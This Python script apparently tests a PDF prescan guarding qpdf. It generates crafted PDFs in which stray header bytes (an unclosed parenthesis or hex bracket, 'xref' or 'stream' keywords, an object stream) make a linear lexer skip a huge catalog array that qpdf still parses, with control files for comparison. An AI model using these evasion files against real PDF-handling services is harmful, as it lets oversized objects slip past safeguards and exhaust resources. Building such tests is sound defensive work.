"""Family A: the prescan is a linear lexer, qpdf reads objects at their xref offsets.
Anything that makes the linear pass skip bytes qpdf later parses hides a huge object."""
import sys, os, zlib
sys.path.insert(0, os.path.dirname(__file__))
from pdfgen import *
D = sys.argv[1] if len(sys.argv) > 1 else "/tmp/attack-f"
os.makedirs(D, exist_ok=True)
N = int(os.environ.get("N", "2000000"))
big = b"[" + b"0 " * N + b"]"
def cat(extra=b""): return b"<< /Type /Catalog /Pages 2 0 R /X " + extra + b" >>"
def w(name, data): open(os.path.join(D, name), "wb").write(data)

# A0: control: the same huge catalog, nothing hidden (prescan must refuse it)
o = {1: cat(big)}; o.update(PAGES); w("A0_control.pdf", build(o))
# A1: an unclosed '(' in unreferenced bytes after the header: the prescan skips the rest
o = {1: cat(big)}; o.update(PAGES); w("A1_paren.pdf", build(o, junk_after_header=b"(\n"))
# A2: an unreferenced "stream" keyword with no "endstream" anywhere before EOF... the catalog
# itself contains the word endstream? no: use "xref" keyword: skip to "trailer"
o = {1: cat(big)}; o.update(PAGES); w("A2_xrefword.pdf", build(o, junk_after_header=b"xref\n"))
# A3: "stream" with the matching "endstream" hidden as a name at the end of the catalog
o = {1: cat(big + b" /endstream")}; o.update(PAGES); w("A3_streamword.pdf", build(o, junk_after_header=b"stream\n"))
# A4: unclosed hex string '<' ... '>' only at the end of the catalog ('>>')
o = {1: cat(big)}; o.update(PAGES); w("A4_hex.pdf", build(o, junk_after_header=b"<\n"))
# A5: object stream (flate) holding the catalog, hidden behind '('
w("A5_objstm_paren.pdf", build_xs(dict(PAGES), {1: cat(big)}, 4, junk_after_header=b"(\n"))
# A5c: control for A5 (prescan inflates it)
w("A5c_objstm_control.pdf", build_xs(dict(PAGES), {1: cat(big)}, 4))
